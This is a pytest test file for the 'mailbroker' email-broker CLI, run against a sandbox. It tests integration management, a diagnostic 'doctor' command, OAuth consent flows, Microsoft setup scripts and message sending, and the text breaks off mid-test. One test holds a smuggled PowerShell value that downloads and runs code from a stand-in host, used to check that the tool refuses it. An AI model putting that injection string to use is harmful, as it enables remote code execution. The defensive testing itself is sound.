"""The ``mailbroker`` command line against the sandbox: Secrets Manager, DynamoDB and SQS on moto
server, the sandbox's Entra ID / Google / OAuth2 endpoints and its SMTP server. Commands run
in-process through ``main(argv)``; their output is read as a person or a script would."""

from __future__ import annotations

import json
import re
import secrets
import sys
import threading
import time
import uuid
import webbrowser

import pytest
import requests
from mailbroker import runtime
from mailbroker.errors import UnknownIntegration
from mailbroker.integrations import IntegrationStore, parse_integration

from mailbroker_cli.main import main
from mailbroker_sandbox.aws import provision
from mailbroker_sandbox.local import powertools_from_env
from tests.fixtures.events import LambdaContext, sqs_event


class Cli:
    """A sandbox deployment with its own secret prefix, and a way to run commands against it."""

    def __init__(self, stack, tokens, smtp, capsys, secrets_dir) -> None:
        self.stack = stack
        self.secrets_dir = secrets_dir
        self.tokens = tokens
        self.smtp = smtp
        self.capsys = capsys
        self.store = IntegrationStore(
            stack.client("secretsmanager"), stack.parameters["SecretPrefix"], max_age=0
        )

    def __call__(self, *argv: str) -> tuple[int, str, str]:
        self.capsys.readouterr()
        code = main(list(argv))
        captured = self.capsys.readouterr()
        return code, captured.out, captured.err

    def json(self, *argv: str) -> tuple[int, object]:
        code, out, _ = self(*argv, "--json")
        return code, json.loads(out)

    def secret_file(self, value: str) -> str:
        """A secret goes to the CLI through a file (never argv): the path of one holding ``value``."""
        path = self.secrets_dir / f"secret-{secrets.token_hex(4)}"
        path.write_text(value + "\n")
        return str(path)

    @property
    def smtp_flags(self) -> list[str]:
        return ["--smtp-host", "127.0.0.1", "--smtp-port", str(self.smtp.port)]

    def microsoft(self, integration_id: str, *, roles=("SMTP.SendAsApp",), audience="https://outlook.office.com",
                  wrong_secret=False, auth_disabled=False, graph_roles=(), **extra) -> dict:  # fmt: skip
        tenant, app, secret = str(uuid.uuid4()), str(uuid.uuid4()), secrets.token_urlsafe(16)
        self.tokens.register_microsoft_app(
            tenant, app, secret, roles=roles, audience=audience, graph_roles=graph_roles
        )
        mailbox = f"{integration_id}@contoso.example"
        self.smtp.add_mailbox(mailbox, allowed_clients=[app], smtp_auth_disabled=auth_disabled)
        document = {
            "id": integration_id,
            "provider": "microsoft",
            "smtp": {"host": "127.0.0.1", "port": self.smtp.port, "timeout_seconds": 5},
            "username": mailbox,
            "tenant_id": tenant,
            "client_id": app,
            "client_secret": "wrong-" + secret if wrong_secret else secret,
            "authority": self.tokens.microsoft_authority(),
            **extra,
        }
        self.store.put(parse_integration(document))
        return document

    def google_client(self) -> tuple[str, str]:
        client_id, client_secret = f"{uuid.uuid4().hex}.apps.example", "GOCSPX-" + secrets.token_urlsafe(16)
        self.tokens.register_google_client(client_id, client_secret)
        return client_id, client_secret

    def run_sender_once(self) -> dict:
        """What the SQS event source mapping does once: receive a batch, invoke, delete successes."""
        from sender.app import lambda_handler

        sqs = self.stack.client("sqs")
        settings = self.stack.function_settings("SenderFunction")
        messages = sqs.receive_message(
            QueueUrl=settings["queue_url"], MaxNumberOfMessages=10, WaitTimeSeconds=1, AttributeNames=["All"]
        ).get("Messages", [])
        records = sqs_event(messages, settings["queue_arn"])["Records"]
        context = LambdaContext("sender", timeout_seconds=90)
        answer = lambda_handler({"Records": records}, context)
        failed = {f["itemIdentifier"] for f in answer.get("batchItemFailures", [])}
        for message in messages:
            if message["MessageId"] not in failed:
                sqs.delete_message(QueueUrl=settings["queue_url"], ReceiptHandle=message["ReceiptHandle"])
        return {"received": len(messages), "failed": sorted(failed)}


@pytest.fixture
def cli(
    moto_server, template, aws_env, ca_trust_env, token_server, smtp_server, monkeypatch, capsys, tmp_path
):
    stack = provision(
        template,
        endpoint_url=moto_server.endpoint_url,
        parameters={"SecretPrefix": f"cli-{secrets.token_hex(4)}/"},
    )
    env = {}
    for function in ("TokenBrokerFunction", "SenderFunction", "KeeperFunction"):
        env.update(stack.function_env(function))
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("NO_COLOR", "1")
    runtime.reset()
    powertools_from_env(env)
    tool = Cli(stack, token_server, smtp_server(), capsys, tmp_path)
    yield tool
    for integration_id in tool.store.list_ids():
        tool.store.delete(integration_id)
    stack.delete()
    runtime.reset()


# --- integration add | list | show | remove --------------------------------------------------------


def test_add_from_flags_writes_a_valid_integration_that_list_and_show_report(cli):
    code, out, _ = cli(
        "integration", "add", "relay", "--provider", "basic", "--username", "alerts@relay.example",
        *cli.smtp_flags, "--password-file", cli.secret_file("hunter2-secret"),
        "--sender", "alerts@relay.example=Alerts",
    )  # fmt: skip

    assert code == 0 and "integration relay (basic) written" in out
    listing_code, listing = cli.json("integration", "list")
    assert listing_code == 0
    assert [(row["id"], row["provider"], row["valid"]) for row in listing] == [("relay", "basic", True)]
    show_code, shown, _ = cli("integration", "show", "relay")
    assert show_code == 0
    assert "senders: Alerts <alerts@relay.example>" in shown
    assert "hunter2-secret" not in shown and "password: **********" in shown


def test_show_redacts_every_secret_field_in_json(cli):
    document = cli.microsoft("m365")

    code, shown = cli.json("integration", "show", "m365")

    assert code == 0
    assert shown["client_id"] == document["client_id"]
    assert shown["client_secret"] == "**********"
    assert document["client_secret"] not in json.dumps(shown)


def test_add_refuses_an_invalid_integration_naming_each_problem(cli):
    code, out, err = cli(
        "integration", "add", "broken", "--provider", "microsoft", "--username", "a@contoso.example",
        "--smtp-host", "smtp.example.com", "--security", "none", "--client-id", "app",
    )  # fmt: skip

    assert code == 2 and out == ""
    assert "nothing was written" in err
    for problem in (
        "smtp (--smtp-host/--security)",
        "tenant_id (--tenant-id)",
        "client_secret (--client-secret)",
    ):
        assert problem in err
    assert cli.store.list_ids() == []


def test_add_with_transport_flags_writes_graph_and_gmail_api_integrations_that_list_shows(
    cli, mail_api_server
):
    graph_code, _, graph_notes = cli(
        "integration", "add", "support-graph", "--provider", "microsoft", "--transport", "graph",
        "--graph-endpoint", mail_api_server.base_url, "--username", "support@contoso.example",
        "--tenant-id", str(uuid.uuid4()), "--client-id", str(uuid.uuid4()),
        "--client-secret-file", cli.secret_file("s3cret-value"),
    )  # fmt: skip
    client_id, client_secret = cli.google_client()
    gmail_code, _, _ = cli(
        "integration", "add", "news-api", "--provider", "google", "--transport", "gmail_api",
        "--gmail-endpoint", mail_api_server.base_url, "--username", "news@fabrikam.example",
        "--client-id", client_id, "--client-secret-file", cli.secret_file(client_secret),
        "--refresh-token-file", cli.secret_file("1//refresh-value"),
    )  # fmt: skip

    assert graph_code == 0 and gmail_code == 0
    assert "setup microsoft support-graph --transport graph" in graph_notes
    graph, gmail = cli.store.get("support-graph"), cli.store.get("news-api")
    assert (graph.transport, graph.api_endpoint) == ("graph", mail_api_server.base_url)
    assert graph.scope == "https://graph.microsoft.com/.default"  # the transport's default scope
    assert (gmail.transport, gmail.api_endpoint) == ("gmail_api", mail_api_server.base_url)
    _, listing = cli.json("integration", "list")
    assert {(row["id"], row["transport"], row["endpoint"]) for row in listing} == {
        ("news-api", "gmail_api", mail_api_server.base_url),
        ("support-graph", "graph", mail_api_server.base_url),
    }
    _, table, _ = cli("integration", "list")
    header, *rows = table.strip().splitlines()
    assert header.split()[:5] == ["ID", "PROVIDER", "TRANSPORT", "USERNAME", "ENDPOINT"]
    assert {row.split()[2] for row in rows} == {"graph", "gmail_api"}


MICROSOFT_FLAGS = ("--provider", "microsoft", "--tenant-id", "t", "--client-id", "c")
GOOGLE_FLAGS = ("--provider", "google", "--client-id", "c")


@pytest.mark.parametrize(
    ("flags", "problem"),
    [
        ((*GOOGLE_FLAGS, "--transport", "graph"), "transport 'graph' is for providers microsoft"),
        ((*MICROSOFT_FLAGS, "--transport", "gmail_api"), "transport 'gmail_api' is for providers google"),
        (
            (*MICROSOFT_FLAGS, "--transport", "graph", "--graph-endpoint", "http://graph.example"),
            "graph_endpoint (--graph-endpoint): Value error, graph_endpoint must be an https URL",
        ),
        (
            (*GOOGLE_FLAGS, "--transport", "gmail_api", "--gmail-endpoint", "https://169.254.169.254"),
            "gmail_endpoint (--gmail-endpoint): Value error, gmail_endpoint points at a link-local",
        ),
        (
            (*MICROSOFT_FLAGS, "--transport", "graph", "--scope", "https://outlook.office365.com/.default"),
            "needs a Microsoft Graph scope",
        ),
    ],
)
def test_add_refuses_a_transport_the_integration_cannot_use_and_writes_nothing(cli, flags, problem):
    secrets_from_files = ["--client-secret-file", cli.secret_file("s3cret-value")]
    if "google" in flags:
        secrets_from_files += ["--refresh-token-file", cli.secret_file("1//refresh-value")]
    code, out, err = cli(
        "integration", "add", "wrong-transport", *flags, *secrets_from_files,
        "--username", "a@contoso.example",
    )  # fmt: skip

    assert code == 2 and out == ""
    assert "nothing was written" in err and problem in err
    assert "s3cret-value" not in err
    assert cli.store.list_ids() == []


def test_add_refuses_an_unknown_transport_before_validating(cli):
    with pytest.raises(SystemExit) as exited:
        cli("integration", "add", "pigeon", "--provider", "microsoft", "--transport", "carrier-pigeon")

    assert exited.value.code == 2
    assert "invalid choice: 'carrier-pigeon'" in cli.capsys.readouterr().err
    assert cli.store.list_ids() == []


def test_add_from_file_refuses_to_overwrite_without_replace(cli, tmp_path):
    document = cli.microsoft("m365")
    path = tmp_path / "m365.json"
    path.write_text(json.dumps({**document, "senders": [{"email": "news@contoso.example"}]}))

    refused, _, err = cli("integration", "add", "--from-file", str(path))
    replaced, _, _ = cli("integration", "add", "--from-file", str(path), "--replace")

    assert refused == 2 and "already exists" in err
    assert replaced == 0
    assert [s.email for s in cli.store.get("m365").senders] == ["news@contoso.example"]


def test_remove_deletes_the_secret(cli):
    cli.microsoft("gone")

    code, out, _ = cli("integration", "remove", "gone", "--yes")

    assert code == 0 and "deleted" in out
    assert cli.store.list_ids() == []


# --- doctor ------------------------------------------------------------------------------------------


def doctor_steps(cli, integration_id: str) -> tuple[int, dict[str, dict]]:
    code, report = cli.json("doctor", integration_id)
    return code, {step["name"]: step for step in report["steps"]}


def test_doctor_passes_every_step_for_a_good_microsoft_integration(cli):
    cli.microsoft("good")

    code, out, _ = cli("doctor", "good")

    assert code == 0
    for name in ("secret", "token", "audience", "role", "tenant", "connect", "tls", "ehlo", "auth", "quit"):
        assert f"✓ {name}" in out
    assert "✗" not in out and "all checks passed" in out
    assert cli.smtp.accepted == []  # no mail is sent


def test_doctor_checks_a_graph_integration_without_sending(cli, mail_api_server):
    document = cli.microsoft("graph-ok", graph_roles=("Mail.Send",))
    document |= {"transport": "graph", "graph_endpoint": mail_api_server.base_url}
    document.pop("smtp")
    cli.store.put(parse_integration(document))
    mail_api_server.add_mailbox(document["username"], graph_clients=[document["client_id"]])

    code, out, _ = cli("doctor", "graph-ok")

    assert code == 0, out
    for name in ("secret", "token", "audience", "role", "api"):
        assert f"✓ {name}" in out
    assert "nothing sent" in out
    assert mail_api_server.received == [] and cli.smtp.accepted == []


def test_doctor_finds_a_graph_mailbox_outside_the_application_access_policy(cli, mail_api_server):
    document = cli.microsoft("graph-denied", graph_roles=("Mail.Send",))
    document |= {"transport": "graph", "graph_endpoint": mail_api_server.base_url}
    document.pop("smtp")
    cli.store.put(parse_integration(document))
    mail_api_server.add_mailbox(document["username"], graph_clients=[])

    code, steps = doctor_steps(cli, "graph-denied")

    assert code == 1
    assert steps["role"]["ok"] is True
    assert steps["api"]["ok"] is False and steps["api"]["code"] == "graph_access_denied"
    assert "Test-ApplicationAccessPolicy" in steps["api"]["hint"]


def test_doctor_checks_a_gmail_api_integration_added_with_flags_and_finds_the_api_disabled(
    cli, mail_api_server
):
    client_id, client_secret = cli.google_client()
    mailbox = "news@fabrikam.example"
    refresh = cli.tokens.issue_refresh_token(client_id, mailbox)
    mail_api_server.add_mailbox(mailbox)
    added, _, _ = cli(
        "integration", "add", "news-api", "--provider", "google", "--transport", "gmail_api",
        "--gmail-endpoint", mail_api_server.base_url, "--username", mailbox, "--client-id", client_id,
        "--client-secret-file", cli.secret_file(client_secret),
        "--refresh-token-file", cli.secret_file(refresh),
        "--token-uri", cli.tokens.google_token_uri,
    )  # fmt: skip

    good, out, _ = cli("doctor", "news-api")
    mail_api_server.fail_next("gmail", "accessNotConfigured")
    disabled, steps = doctor_steps(cli, "news-api")

    assert added == 0
    assert good == 0, out
    for name in ("secret", "token", "scope", "api"):
        assert f"✓ {name}" in out
    assert disabled == 1
    assert steps["scope"]["ok"] is True
    assert steps["api"]["ok"] is False and steps["api"]["code"] == "gmail_api_disabled"
    assert "Gmail API" in steps["api"]["hint"]
    assert mail_api_server.received == [] and cli.smtp.accepted == []  # nothing sent


def test_doctor_names_a_wrong_client_secret_at_the_token_step(cli):
    cli.microsoft("wrong-secret", wrong_secret=True)

    code, steps = doctor_steps(cli, "wrong-secret")

    assert code == 1
    assert steps["secret"]["ok"] is True
    assert steps["token"]["ok"] is False and steps["token"]["code"] == "token_invalid_client"
    assert "AADSTS7000215" in steps["token"]["hint"]
    assert steps["auth"]["ok"] is None  # not attempted after the token failed


def test_doctor_names_a_missing_send_as_app_role(cli):
    cli.microsoft("no-role", roles=())

    code, steps = doctor_steps(cli, "no-role")

    assert code == 1
    assert steps["role"]["ok"] is False and "SMTP.SendAsApp" in steps["role"]["hint"]
    assert steps["audience"]["ok"] is True
    assert steps["auth"]["ok"] is False and steps["auth"]["code"] == "smtp_auth_failed"


def test_doctor_names_smtp_auth_disabled_with_the_powershell_fix(cli):
    cli.microsoft("disabled", auth_disabled=True)

    code, out, _ = cli("doctor", "disabled")

    assert code == 1
    assert "✓ token" in out and "✓ ehlo" in out
    assert "✗ auth" in out and "535 5.7.139" in out
    assert "Set-CASMailbox -Identity disabled@contoso.example -SmtpClientAuthenticationDisabled $false" in out


def test_doctor_names_the_app_registration_object_id_given_to_new_service_principal(cli):
    document = cli.microsoft("wrong-oid")
    registration, enterprise = cli.tokens.microsoft_object_ids(document["tenant_id"], document["client_id"])
    # Exchange knows the app by the App registration's Object ID: the seeds' mistake.
    cli.smtp.add_mailbox(document["username"], service_principals=[registration])

    code, steps = doctor_steps(cli, "wrong-oid")

    assert code == 1
    assert steps["role"]["ok"] is True and steps["auth"]["code"] == "smtp_auth_failed"
    assert enterprise in steps["principal"]["detail"]
    assert (
        f"New-ServicePrincipal -AppId {document['client_id']} -ObjectId {enterprise}"
        in steps["principal"]["hint"]
    )
    assert registration not in steps["principal"]["hint"]


def test_doctor_names_graph_mail_send_granted_where_smtp_needs_send_as_app(cli):
    cli.microsoft("graph-perm", roles=(), graph_roles=("Mail.Send",))

    code, steps = doctor_steps(cli, "graph-perm")

    assert code == 1
    assert steps["graph"]["ok"] is False
    assert "Office 365 Exchange Online > Application permissions" in steps["graph"]["hint"]
    # The sandbox's authority is not a Microsoft sign-in host: no consent link points at it.
    assert "Grant admin consent" in steps["graph"]["hint"] and "adminconsent" not in steps["graph"]["hint"]


def test_doctor_names_exchange_mail_send_granted_instead_of_send_as_app(cli):
    cli.microsoft("mail-send", roles=("Mail.Send",))

    code, steps = doctor_steps(cli, "mail-send")

    assert code == 1
    assert "Mail.Send" in steps["role"]["detail"]
    assert "SMTP.SendAsApp" in steps["role"]["hint"]


def test_doctor_warns_of_a_client_secret_close_to_expiry(cli):
    ends = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 10 * 86400))
    cli.microsoft("expiring", client_secret_expires_at=ends)

    code, steps = doctor_steps(cli, "expiring")

    assert code == 1
    assert steps["expiry"]["ok"] is False and "in 9 days" in steps["expiry"]["detail"]
    assert "Certificates & secrets" in steps["expiry"]["hint"]
    assert steps["auth"]["ok"] is True  # it still works today


def test_doctor_names_security_defaults_blocking_a_password(cli):
    mailbox = "printer@contoso.example"
    cli.smtp.add_mailbox(mailbox, password="printer-password-1", security_defaults=True)
    cli.store.put(
        parse_integration(
            {
                "id": "printer",
                "provider": "basic",
                "smtp": {"host": "127.0.0.1", "port": cli.smtp.port, "timeout_seconds": 5},
                "username": mailbox,
                "password": "printer-password-1",
            }
        )
    )

    code, steps = doctor_steps(cli, "printer")

    assert code == 1
    assert steps["auth"]["code"] == "sign_in_blocked"
    assert "Manage security defaults" in steps["auth"]["hint"]


def test_doctor_names_a_google_client_left_in_testing(cli):
    client_id, client_secret = f"{uuid.uuid4().hex}.apps.example", "GOCSPX-" + secrets.token_urlsafe(16)
    cli.tokens.register_google_client(client_id, client_secret, testing=True)
    cli.smtp.add_mailbox("cy@gmail.example")
    cli.store.put(
        parse_integration(
            {
                "id": "testing",
                "provider": "google",
                "smtp": {"host": "127.0.0.1", "port": cli.smtp.port, "timeout_seconds": 5},
                "username": "cy@gmail.example",
                "client_id": client_id,
                "client_secret": client_secret,
                "refresh_token": cli.tokens.issue_refresh_token(client_id, "cy@gmail.example"),
                "token_uri": cli.tokens.google_token_uri,
            }
        )
    )

    code, steps = doctor_steps(cli, "testing")

    assert code == 1
    assert steps["consent"]["ok"] is False and "'Testing'" in steps["consent"]["detail"]
    assert (
        "Publish app" in steps["consent"]["hint"]
        and "mailbroker consent google testing" in steps["consent"]["hint"]
    )
    assert steps["auth"]["ok"] is True  # it works until the seventh day


def test_doctor_names_a_token_for_the_wrong_audience(cli):
    cli.microsoft("graph", audience="https://graph.microsoft.com")

    code, steps = doctor_steps(cli, "graph")

    assert code == 1
    assert steps["audience"]["ok"] is False
    assert "https://graph.microsoft.com" in steps["audience"]["detail"]
    assert "https://outlook.office365.com/.default" in steps["audience"]["hint"]


def test_doctor_names_an_unknown_integration(cli):
    code, steps = doctor_steps(cli, "nobody")

    assert code == 1
    assert steps["secret"]["code"] == "unknown_integration"


# --- consent google ------------------------------------------------------------------------------------


class BrowserStandIn(webbrowser.BaseBrowser):
    """Opens the consent URL as a browser would: GET, follow the redirect to the loopback server."""

    def __init__(self, ca_file: str) -> None:
        super().__init__("mailbroker-test-browser")
        self.ca_file = ca_file
        self.landed: list[str] = []
        self.failures: list[BaseException] = []

    def open(self, url: str, new: int = 0, autoraise: bool = True) -> bool:
        def visit() -> None:
            with requests.Session() as browser:
                browser.trust_env = False
                try:
                    answer = browser.get(url, verify=self.ca_file, timeout=10)
                    self.landed.append(answer.url)
                except requests.RequestException as exc:
                    self.failures.append(exc)

        threading.Thread(target=visit, daemon=True).start()
        return True


@pytest.fixture
def browser(sandbox_ca):
    stand_in = BrowserStandIn(str(sandbox_ca.ca_cert))
    webbrowser.register(stand_in.name, None, stand_in)
    return stand_in


def test_consent_google_stores_the_refresh_token_and_doctor_then_passes(cli, browser):
    client_id, client_secret = cli.google_client()
    cli.smtp.add_mailbox("ana@gmail.example")

    code, out, err = cli(
        "consent", "google", "gmail", "--client-id", client_id,
        "--client-secret-file", cli.secret_file(client_secret),
        "--username", "ana@gmail.example", "--token-uri", cli.tokens.google_token_uri, *cli.smtp_flags,
        "--browser", browser.name, "--timeout", "10",
    )  # fmt: skip

    assert code == 0, err
    assert "refresh token stored" in out
    assert "7 days" in err and "Testing" in err  # the Testing-status warning
    assert browser.landed and browser.landed[0].startswith("http://localhost:")
    integration = cli.store.get("gmail")
    assert integration.refresh_token.get_secret_value().startswith("1//")
    assert integration.refresh_token.get_secret_value() not in out + err
    doctor_code, steps = doctor_steps(cli, "gmail")
    assert doctor_code == 0 and steps["scope"]["ok"] is True


class PastingOperator:
    """An operator over SSH: reads the consent URL the command printed, approves it in a browser on
    another machine (the redirect to localhost does not load there), and pastes the address back."""

    def __init__(self, capsys, ca_file: str, paste=lambda landed: landed) -> None:
        self.capsys, self.ca_file, self.paste = capsys, ca_file, paste
        self.printed = ""

    def readline(self) -> str:
        self.printed += self.capsys.readouterr().err
        url = re.search(r"^  (https://\S+)$", self.printed, re.M).group(1)
        with requests.Session() as browser:
            browser.trust_env = False
            answer = browser.get(url, verify=self.ca_file, timeout=10, allow_redirects=False)
        return self.paste(answer.headers["Location"]) + "\n"


@pytest.mark.parametrize(
    "paste", [lambda landed: landed, lambda landed: landed.split("code=")[1].split("&")[0]]
)
def test_consent_google_without_a_browser_reads_the_redirected_address_pasted_back(
    cli, sandbox_ca, monkeypatch, paste
):
    client_id, client_secret = cli.google_client()
    cli.smtp.add_mailbox("ana@gmail.example")
    monkeypatch.setattr(webbrowser, "_tryorder", [])  # no browser on this machine
    operator = PastingOperator(cli.capsys, str(sandbox_ca.ca_cert), paste)
    monkeypatch.setattr(sys, "stdin", operator)

    code, out, err = cli(
        "consent", "google", "gmail", "--client-id", client_id,
        "--client-secret-file", cli.secret_file(client_secret),
        "--username", "ana@gmail.example", "--token-uri", cli.tokens.google_token_uri, *cli.smtp_flags,
    )  # fmt: skip

    assert code == 0, operator.printed + err
    assert "No browser was found on this machine" in operator.printed
    assert "paste it here" in operator.printed
    assert "refresh token stored" in out
    assert cli.store.get("gmail").refresh_token.get_secret_value().startswith("1//")
    doctor_code, steps = doctor_steps(cli, "gmail")
    assert doctor_code == 0 and steps["scope"]["ok"] is True


def test_consent_google_refuses_an_address_pasted_from_another_attempt(cli, sandbox_ca, monkeypatch):
    client_id, client_secret = cli.google_client()
    forged = lambda landed: re.sub(r"state=[^&]+", "state=someone-elses", landed)  # noqa: E731
    monkeypatch.setattr(sys, "stdin", PastingOperator(cli.capsys, str(sandbox_ca.ca_cert), forged))

    code, _, err = cli(
        "consent", "google", "gmail", "--client-id", client_id,
        "--client-secret-file", cli.secret_file(client_secret),
        "--username", "ana@gmail.example", "--token-uri", cli.tokens.google_token_uri, "--no-browser",
    )  # fmt: skip

    assert code == 2
    assert "another consent attempt" in err
    with pytest.raises(Exception, match="gmail"):
        cli.store.get("gmail")


def test_consent_google_renews_the_refresh_token_of_an_existing_integration(cli, browser):
    client_id, client_secret = cli.google_client()
    dead = cli.tokens.issue_refresh_token(client_id, "bo@gmail.example")
    cli.tokens.revoke_refresh_token(dead)
    cli.store.put(
        parse_integration(
            {
                "id": "bo",
                "provider": "google",
                "smtp": {"host": "127.0.0.1", "port": cli.smtp.port},
                "username": "bo@gmail.example",
                "client_id": client_id,
                "client_secret": client_secret,
                "refresh_token": dead,
                "token_uri": cli.tokens.google_token_uri,
            }
        )
    )

    code, _, err = cli("consent", "google", "bo", "--browser", browser.name, "--timeout", "10")

    assert code == 0, err
    renewed = cli.store.get("bo").refresh_token.get_secret_value()
    assert renewed != dead
    assert cli.tokens.issued(provider="google", client_id=client_id) >= 1


@pytest.mark.parametrize(
    ("provider", "given", "named"),
    [
        ("google", ["--username", "ana@gmail.example"], "--client-id, --client-secret is missing"),
        ("microsoft", ["--client-id", "11111111-2222-3333-4444-555555555555"], "--tenant-id, --username"),
    ],
)
def test_consent_for_a_new_integration_names_every_missing_flag_and_stores_nothing(
    cli, provider, given, named
):
    code, _, err = cli("consent", provider, "fresh", *given, *cli.smtp_flags)

    assert code != 0
    assert "integration 'fresh' does not exist yet and " + named in err
    assert "--smtp-host" not in err  # the SMTP flags given were taken, not asked for
    with pytest.raises(UnknownIntegration):
        cli.store.get("fresh")


def test_consent_refused_in_the_browser_stores_nothing(cli, browser, token_server):
    client_id, client_secret = cli.google_client()
    token_server.deny_consent = True

    code, _, err = cli(
        "consent", "google", "refused", "--client-id", client_id,
        "--client-secret-file", cli.secret_file(client_secret),
        "--username", "x@gmail.example", "--token-uri", cli.tokens.google_token_uri,
        "--browser", browser.name, "--timeout", "10",
    )  # fmt: skip

    assert code == 2 and "refused" in err
    assert cli.store.list_ids() == []


# --- setup microsoft -----------------------------------------------------------------------------------


def test_setup_microsoft_prints_powershell_with_the_values_filled_in(cli):
    document = cli.microsoft("m365")
    object_id = str(uuid.uuid4())

    code, out, _ = cli("setup", "microsoft", "m365", "--object-id", object_id)

    assert code == 0
    # The sandbox's authority is not a Microsoft sign-in host: no consent URL points at it.
    assert "adminconsent" not in out and "not a Microsoft sign-in host" in out
    assert f"Get-ServicePrincipal -Identity '{object_id}' | Format-List DisplayName,AppId,ObjectId" in out
    assert "User.Read permission" in out and "you can remove it" in out
    assert f"New-ServicePrincipal -AppId '{document['client_id']}' -ObjectId '{object_id}'" in out
    assert (
        f"Add-MailboxPermission -Identity 'm365@contoso.example' -User '{object_id}' -AccessRights FullAccess"
        in out
    )
    assert f"Add-RecipientPermission -Identity 'm365@contoso.example' -Trustee '{object_id}'" in out
    assert "Set-CASMailbox -Identity 'm365@contoso.example' -SmtpClientAuthenticationDisabled $false" in out


def test_setup_microsoft_prints_the_v2_consent_url_on_a_microsoft_sign_in_host(cli):
    # No token is asked for: setup only prints, so the real authority can stand in the integration.
    document = cli.microsoft("m365", authority="https://login.microsoftonline.com")

    code, out, _ = cli("setup", "microsoft", "m365", "--object-id", str(uuid.uuid4()))

    assert code == 0
    assert (
        f"https://login.microsoftonline.com/{document['tenant_id']}/v2.0/adminconsent?"
        f"client_id={document['client_id']}"
        "&scope=https://outlook.office365.com/.default&redirect_uri=http://localhost"
    ) in out.split()


def test_setup_microsoft_consent_url_takes_the_apps_own_redirect_uri(cli):
    document = cli.microsoft("m365", authority="https://login.microsoftonline.us")

    code, plan = cli.json(
        "setup", "microsoft", "m365", "--redirect-uri", "https://app.contoso.example/consented"
    )

    assert code == 0
    assert plan["admin_consent_url"] == (
        f"https://login.microsoftonline.us/{document['tenant_id']}/v2.0/adminconsent?"
        f"client_id={document['client_id']}"
        "&scope=https://outlook.office365.com/.default&redirect_uri=https://app.contoso.example/consented"
    )
    assert plan["verify"].startswith("Get-ServicePrincipal -Identity <Enterprise Application object id>")


def test_setup_microsoft_without_object_id_says_which_object_id_to_use(cli):
    cli.microsoft("m365")

    code, out, _ = cli("setup", "microsoft", "m365")

    assert code == 0
    assert "-ObjectId <Enterprise Application object id>" in out
    assert "NOT the object id on the App registration" in out


def test_setup_microsoft_for_graph_prints_mail_send_consent_and_the_access_policy(cli):
    document = cli.microsoft("m365", authority="https://login.microsoftonline.com")

    code, out, _ = cli("setup", "microsoft", "m365", "--transport", "graph")

    assert code == 0
    assert "Microsoft Graph > Application" in out and "Mail.Send" in out
    assert (
        f"https://login.microsoftonline.com/{document['tenant_id']}/adminconsent?"
        f"client_id={document['client_id']}"
    ) in out.split()
    assert (
        f"New-ApplicationAccessPolicy -AppId '{document['client_id']}' -PolicyScopeGroupId 'mailbroker-m365'"
        in out
    )
    assert (
        f"Test-ApplicationAccessPolicy -Identity 'm365@contoso.example' -AppId '{document['client_id']}'"
        in out
    )
    # OPATH inside a single-quoted PowerShell string: the filter's own quotes doubled once more.
    assert "-RecipientRestrictionFilter 'PrimarySmtpAddress -eq ''m365@contoso.example'''" in out
    assert "New-ManagementRoleAssignment -App" in out and "-Role 'Application Mail.Send'" in out
    assert "Set-CASMailbox" not in out  # SMTP AUTH is not needed for Graph
    commands = [line for line in out.splitlines() if line.lstrip().startswith(("New-", "Test-", "Add-"))]
    assert commands and not any('"' in line for line in commands)


def test_setup_microsoft_for_graph_refuses_values_that_would_run_as_powershell(cli):
    cli.microsoft("m365", transport="graph", client_id="$(iex (irm https://evil.example))")

    code, out, err = cli("setup", "microsoft", "m365")

    assert code == 2 and out == ""
    assert "client_id must be" in err and "iex" not in err


# --- send | status | dlq ------------------------------------------------------------------------------


def test_send_queues_a_message_and_status_follows_it_to_sent(cli):
    cli.microsoft("m365")

    code, queued = cli.json(
        "send", "-i", "m365", "--id", "hello-1", "--from", "m365@contoso.example",
        "--to", "ana@example.com", "--subject", "Hello", "--text", "Hi Ana",
    )  # fmt: skip
    before_code, before = cli.json("status", "hello-1")
    cli.run_sender_once()
    after_code, after = cli.json("status", "hello-1")

    assert code == 0 and queued == {"id": "hello-1", "status": "queued"}
    assert before_code == 0 and before["status"] == "queued"
    assert after_code == 0 and after["status"] == "sent" and after["reply"].startswith("250 ")
    assert cli.smtp.accepted[-1].rcpt_tos == ["ana@example.com"]


def test_status_prints_each_recipients_outcome(cli):
    cli.microsoft("m365")
    cli.smtp.fail("rcpt", 452, "4.5.3 Too many recipients", recipient="bo@example.com")
    cli(
        "send", "-i", "m365", "--id", "hello-2", "--from", "m365@contoso.example",
        "--to", "ana@example.com", "--to", "bo@example.com", "--subject", "Hello", "--text", "Hi",
    )  # fmt: skip
    cli.run_sender_once()

    code, out, _ = cli("status", "hello-2")

    assert code == 0
    assert "status: retrying" in out and "recipients:" in out
    lines = out.splitlines()
    [ana] = [line for line in lines if "ana@example.com" in line]
    [bo] = [line for line in lines if "bo@example.com" in line]
    assert "delivered" in ana and "250 " in ana
    assert "retrying" in bo and "throttled: 452 4.5.3 Too many recipients" in bo
    assert "retried on their own" in out


def test_send_refuses_an_invalid_message_naming_each_problem(cli):
    cli.microsoft("m365")

    code, out, err = cli("send", "-i", "m365", "--from", "not-an-address", "--subject", "x")

    assert code == 2 and out == ""
    assert "nothing was queued" in err and "from" in err and "to" in err


def test_send_wait_polls_until_the_message_is_sent(cli):
    cli.microsoft("m365")
    worker = threading.Timer(0.3, cli.run_sender_once)
    worker.start()

    code, out, _ = cli(
        "send", "-i", "m365", "--id", "wait-1", "--from", "m365@contoso.example", "--to", "bo@example.com",
        "--subject", "Waited", "--text", "body", "--wait", "--timeout", "20",
    )  # fmt: skip
    worker.join()

    assert code == 0
    assert "status: sent" in out and "reply: 250 " in out


def test_test_wait_prints_each_step_until_the_server_accepts_the_test_mail(cli):
    cli.microsoft("m365")
    worker = threading.Timer(0.3, cli.run_sender_once)
    worker.start()

    code, out, _ = cli("test", "m365", "--to", "bo@example.com", "--wait", "--timeout", "20")
    worker.join()

    assert code == 0, out
    lines = out.splitlines()
    assert lines[0] == "✓ integration m365 (microsoft), from m365@contoso.example"
    assert re.fullmatch(r"✓ queued test-m365-[0-9a-f]{12} to bo@example\.com", lines[1])
    assert re.fullmatch(r"✓ sent: the server answered 250 2\.0\.0 OK <.+>", lines[-1])
    [accepted] = cli.smtp.accepted
    assert accepted.rcpt_tos == ["bo@example.com"] and b"X-Mailbroker-Test: 1" in accepted.data


def test_test_prints_the_code_and_hint_when_the_test_mail_fails(cli):
    document = cli.microsoft("m365")
